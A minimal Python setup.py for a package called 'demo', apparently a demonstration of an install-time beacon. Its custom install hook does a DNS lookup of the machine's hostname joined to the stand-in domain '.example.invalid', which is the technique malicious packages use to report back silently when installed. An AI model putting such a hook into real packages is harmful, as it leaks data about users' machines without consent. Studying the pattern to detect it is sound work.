import socket
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        self.beacon()

    def beacon(self):
        host = socket.gethostname()
        socket.gethostbyname(host + ".example.invalid")


setup(name="demo", version="1.0", cmdclass={"install": PostInstall})
